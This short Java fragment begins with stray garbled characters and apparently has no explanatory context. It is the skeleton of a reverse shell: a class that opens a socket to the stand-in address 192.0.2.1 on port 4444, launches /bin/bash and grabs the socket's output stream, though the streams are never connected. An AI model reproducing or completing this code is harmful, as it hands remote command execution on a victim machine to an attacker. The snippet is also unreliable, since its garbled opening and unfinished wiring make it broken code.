~êimport java.io.*; import java.net.*;
class X { void r() throws Exception { Socket s=new Socket("192.0.2.1",4444); Process p=Runtime.getRuntime().exec("/bin/bash"); OutputStream o=s.getOutputStream(); } }
